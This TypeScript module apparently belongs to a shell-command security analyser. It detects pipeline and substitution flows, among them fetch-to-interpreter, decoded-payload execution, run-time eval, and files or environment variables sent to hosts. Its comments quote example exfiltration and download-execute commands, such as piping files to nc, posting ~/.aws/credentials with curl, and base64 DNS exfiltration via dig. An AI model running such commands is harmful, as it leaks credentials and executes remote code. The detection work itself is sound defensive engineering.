/**
 * Effects that only show across commands: what flows down a pipeline (a fetch piped into an
 * interpreter, a decoded payload piped into a shell, files piped into a command that sends its
 * input), and code that only exists at run time (`sh -c "$(curl …)"`, `eval "$X"`).
 */
import type { InvocationCollector } from '../collect-invocations';
import type { Invocation } from '../invocation';
import { emit, type EffectContext } from './effect-context';
import { downloadedAs, fetchInGroups } from './read-effects';

function hostOf(target: string): string {
  const m = /^[a-z][a-z0-9+.-]*:\/\/([^/?#]+)/i.exec(target);
  const authority = m?.[1] ?? target.split('/')[0] ?? '';
  return authority.replace(/^.*@/, '').replace(/:\d+$/, '').toLowerCase();
}

export function readPipelineFlows(collector: InvocationCollector, cx: EffectContext): void {
  if (!collector.invocations.some((inv) => inv.pipes.length > 0)) return;
  const byPipe = new Map<number, Invocation[]>();
  for (const inv of collector.invocations) {
    for (const slot of inv.pipes) {
      const list = byPipe.get(slot.id);
      if (list === undefined) byPipe.set(slot.id, [inv]);
      else list.push(inv);
    }
  }
  for (const [id, members] of byPipe) {
    const stageOf = (inv: Invocation): number => inv.pipes.find((p) => p.id === id)?.stage ?? -1;
    for (const c of members) {
      const stage = stageOf(c);
      // A command reads standard input from its innermost pipeline only.
      if (stage <= 0 || c.pipes[c.pipes.length - 1]?.id !== id) continue;
      const upstream = members.filter((m) => stageOf(m) < stage);
      if (upstream.length === 0) continue;
      const exec = collector.executionOf(c);
      const ownInput = c.redirects.some((r) => r.body !== null || (r.op === '<' && r.target !== null));
      if (exec.kind === 'stdin' && !ownInput) interpreterFed(collector, cx, c, upstream);
      // xargs -I{} sh -c '… {} …': standard input is pasted into the code itself.
      if (exec.kind === 'inline' && exec.language === 'shell' && c.argsFromStdin && exec.code.value.includes('{}')) emit(cx, c, 'unresolved', 'stdin_code', exec.code.text, { dynamic: true });
      const sendsTo = cx.flow.stdinSenders.get(c.seq);
      if (sendsTo !== undefined && !ownInput) sender(cx, c, sendsTo, upstream);
    }
  }
}

/** `… | sh`, `… | python3 -`: what the interpreter runs is what upstream printed. */
function interpreterFed(collector: InvocationCollector, cx: EffectContext, c: Invocation, upstream: readonly Invocation[]): void {
  if (collector.resolvedStdin.has(c.seq)) return;
  for (const u of upstream) {
    const fetched = cx.flow.fetchesToStdout.get(u.seq);
    if (fetched !== undefined) {
      emit(cx, c, 'download_execute', 'pipe_to_interpreter', fetched, { host: hostOf(fetched) });
      return;
    }
  }
  const decoder = upstream.find((u) => cx.flow.decoders.has(u.seq));
  for (const u of upstream) {
    for (const p of cx.flow.reads.get(u.seq) ?? []) {
      if (decoder === undefined) cx.out.script(p);
      const url = downloadedAs(cx, p);
      if (url !== null) emit(cx, c, 'download_execute', 'fetch_then_run', url, { host: hostOf(url) });
    }
  }
  if (decoder !== undefined) {
    emit(cx, c, 'unresolved', 'decoded_code', decoder.evidence, { dynamic: true });
    return;
  }
  if (upstream.some((u) => (cx.flow.reads.get(u.seq)?.length ?? 0) > 0)) return;
  const source = upstream[upstream.length - 1];
  emit(cx, c, 'unresolved', 'stdin_code', source?.evidence ?? 'stdin', { dynamic: true });
}

/** `cat FILE | nc host port`, `env | curl -d @- host`: upstream data leaves with the sender. */
function sender(cx: EffectContext, c: Invocation, host: string, upstream: readonly Invocation[]): void {
  let any = false;
  for (const u of upstream) {
    for (const p of cx.flow.reads.get(u.seq) ?? []) {
      emit(cx, c, 'file_send', 'pipe', p, { host });
      any = true;
    }
    if (cx.flow.envDumps.has(u.seq)) {
      emit(cx, c, 'file_send', 'pipe', 'environment', { host });
      any = true;
    }
  }
  if (!any) emit(cx, c, 'file_send', 'pipe', 'stdin', { host });
}

/** `sh -c "$(curl …)"`, `eval "$(…)"`, `python -c "$X"`: code only known at run time. */
export function readDynamicCode(collector: InvocationCollector, cx: EffectContext): void {
  for (const d of collector.dynamicCode) {
    const fetched = fetchInGroups(collector, cx, d.word.subs);
    if (fetched !== null) emit(cx, d.invocation, 'download_execute', 'substituted_fetch', fetched, { host: hostOf(fetched) });
    else if (d.word.subs.length > 0) emit(cx, d.invocation, 'unresolved', 'substituted_code', d.word.text, { dynamic: true });
    else emit(cx, d.invocation, 'unresolved', 'dynamic_code', d.word.text, { dynamic: true });
  }
}

/**
 * `curl -d "$(cat ~/.aws/credentials)" https://h/`, `dig $(cat .env | base64).h.example`: what a
 * substitution read leaves inside an argument of a command that contacts a host.
 */
export function readSubstitutionFlows(collector: InvocationCollector, cx: EffectContext): void {
  if (!cx.flow.anyEgress) return;
  for (const [seq, hosts] of cx.flow.egress) {
    const inv = collector.invocations[seq];
    if (inv === undefined) continue;
    const groups = new Set<number>();
    for (const w of inv.argv) for (const g of w.subs) groups.add(g);
    for (const r of inv.redirects) for (const g of r.body?.subs ?? []) groups.add(g);
    if (groups.size === 0) continue;
    const sources: string[] = [];
    for (const inner of collector.invocations) {
      if (!groups.has(inner.group)) continue;
      for (const p of cx.flow.reads.get(inner.seq) ?? []) if (!sources.includes(p)) sources.push(p);
      if (cx.flow.envDumps.has(inner.seq) && !sources.includes('environment')) sources.push('environment');
    }
    for (const src of sources) for (const host of hosts) emit(cx, inv, 'file_send', 'substitution', src, host !== '' ? { host } : { dynamic: true });
  }
}

